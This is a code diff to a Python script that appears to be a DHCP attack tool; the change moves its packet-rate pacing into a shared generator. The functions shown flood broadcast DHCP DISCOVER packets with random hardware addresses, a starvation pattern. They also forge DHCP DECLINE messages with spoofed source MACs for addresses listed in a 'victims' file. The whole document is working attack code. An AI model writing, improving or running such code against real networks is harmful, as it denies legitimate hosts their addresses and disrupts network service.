@@ -48,18 +48,12 @@ def count(k, n=1):
         counts[k] += n
 
 
-def discover(sock, mymac, pps):
-    rnd = random.Random(10)
-    bcast = b"\xff" * 6
+def paced(pps):
+    """A generator to call once per packet: it waits for the packet's
+    turn at PPS a second (no catching up after a late turn)."""
     t = time.monotonic()
-    n = 0
     while not stop.is_set():
-        chaddr = bytes([6]) + bytes(rnd.randrange(256) for _ in range(5))
-        n += 1
-        sock.send(frame(mymac if n % 2 else chaddr, bcast, "0.0.0.0", "255.255.255.255",
-                        bootp(rnd.randrange(1 << 32), chaddr, DISCOVER,
-                              flags=0)))
-        count("discovers")
+        yield
         t += 1.0 / pps
         delay = t - time.monotonic()
         if delay > 0:
@@ -68,11 +62,23 @@ def discover(sock, mymac, pps):
             t = time.monotonic()
 
 
+def discover(sock, mymac, pps):
+    rnd = random.Random(10)
+    bcast = b"\xff" * 6
+    for n, _ in enumerate(paced(pps)):
+        chaddr = bytes([6]) + bytes(rnd.randrange(256) for _ in range(5))
+        sock.send(frame(chaddr if n % 2 else mymac, bcast, "0.0.0.0",
+                        "255.255.255.255",
+                        bootp(rnd.randrange(1 << 32), chaddr, DISCOVER,
+                              flags=0)))
+        count("discovers")
+
+
 def forge(sock, server_ip, server_mac, victims, pps):
     sid = bytes([54, 4]) + socket.inet_aton(server_ip)
     bcast = b"\xff" * 6
     rnd = random.Random(11)
-    t = time.monotonic()
+    turn = paced(pps / 2)
     while not stop.is_set():
         try:
             with open(victims) as f:
@@ -82,9 +88,7 @@ def forge(sock, server_ip, server_mac, victims, pps):
         if not lines:
             stop.wait(0.5)
             continue
-        for addr, mac in lines:
-            if stop.is_set():
-                break
+        for (addr, mac), _ in zip(lines, turn):
             m = bytes.fromhex(mac.replace(":", ""))
             src = bytes([6]) + bytes(rnd.randrange(256) for _ in range(5))
             sock.send(frame(src, server_mac, addr, server_ip,
@@ -96,12 +100,6 @@ def forge(sock, server_ip, server_mac, victims, pps):
                                   opts=bytes([50, 4]) +
                                   socket.inet_aton(addr) + sid, flags=0)))
             count("declines")
-            t += 2.0 / pps
-            delay = t - time.monotonic()
-            if delay > 0:
-                stop.wait(delay)
-            else:
-                t = time.monotonic()
 
 
 def junk(server_ip, port, seed):
